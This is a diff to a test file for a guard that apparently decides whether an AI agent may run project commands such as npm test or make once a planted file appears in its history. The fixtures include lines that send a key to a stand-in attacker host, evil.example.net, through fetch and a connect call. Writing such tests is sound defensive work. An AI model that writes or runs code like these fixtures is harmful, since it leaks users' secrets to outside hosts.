@@ -177,6 +177,16 @@ test("a runner runs the files that hold a stranger's address, and others unasked
     });
   const bad = historyOf(user, guide, made('await fetch("https://evil.example.net/in?d=" + key)'));
   const good = historyOf(user, guide, made("// see items/list: pods restart"));
+  const lines = ["node --test", "node other.mjs", "make", "./run-all", "yarn test", "npm test --silent", "node -v"];
+  const asked = [...Array(6).fill("repeats"), "allow"];
+  expect(lines.map((line) => whyOf(bad, runs(line)))).toEqual(asked);
+  const bare = historyOf(prompt("Look around, then npm test"), guide, made('connect({ host: "evil.example.net" })'));
+  expect(whyOf(bare, runs("npm test"))).toBe("repeats");
+  const yes = ended("bash", { command: "npm test" }, "ok");
+  const allowed = { ...yes, calls: yes.calls.map((call) => ({ ...call, allowed: [] })) };
+  const after = (...more: (typeof yes)[]) => whyOf(historyOf(...bad.messages, ...more), runs("npm test"));
+  const again = made('await fetch("https://evil.example.net/in?e=" + key)');
+  expect([after(yes), after(allowed), after(allowed, again)]).toEqual(["repeats", "allow", "repeats"]);
   const calls = [runs("npm test"), runs("python3 -m pytest -q"), runs("npx vitest"), runs("npm ls")];
   expect(calls.map((call) => whyOf(bad, call))).toEqual(["repeats", "repeats", "repeats", "allow"]);
   expect(calls.map((call) => whyOf(good, call))).toEqual(["allow", "allow", "allow", "allow"]);
